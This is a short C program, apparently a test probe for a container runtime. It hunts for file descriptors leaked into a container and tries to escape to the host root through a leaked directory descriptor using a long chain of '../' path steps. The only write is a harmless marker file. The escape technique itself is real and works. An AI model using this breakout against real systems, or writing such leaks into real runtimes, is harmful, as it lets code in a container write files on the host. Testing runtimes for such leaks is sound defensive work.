/* An attacker inside a container, looking for descriptors its caller left
 * open: for each one past stdio, say what it is, and through a directory
 * try to climb to the host's root and write MARKER there (a path relative
 * to that root, e.g. tmp/servos-escape). Prints "leaked N -> WHAT" per
 * descriptor, "ESCAPED" after a write that worked, "no leaked descriptors"
 * when there was none. Usage: fdescape MARKER */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    const char *marker = argc > 1 ? argv[1] : "tmp/servos-escape";
    int leaked = 0;
    DIR *d = opendir("/proc/self/fd");
    if (d == NULL) {
        perror("fdescape: /proc/self/fd");
        return 2;
    }
    int own = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd < 3 || fd == own)
            continue;
        char link[64], what[4096] = "?";
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, what, sizeof(what) - 1);
        what[n > 0 ? n : 1] = '\0';
        printf("leaked %d -> %s\n", fd, what);
        leaked++;
        struct stat st;
        if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
            continue;
        /* Up past whatever root we are in: ".." of the host's "/" is "/". */
        char path[4096] = "";
        for (int i = 0; i < 64; i++)
            strcat(path, "../");
        strcat(path, marker);
        int out = openat(fd, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (out >= 0) {
            if (write(out, "escaped\n", 8) == 8)
                printf("ESCAPED through %d: wrote /%s on the host\n", fd, marker);
            close(out);
        } else {
            printf("fd %d: cannot write %s: %m\n", fd, marker);
        }
    }
    closedir(d);
    if (leaked == 0)
        printf("no leaked descriptors\n");
    return 0;
}
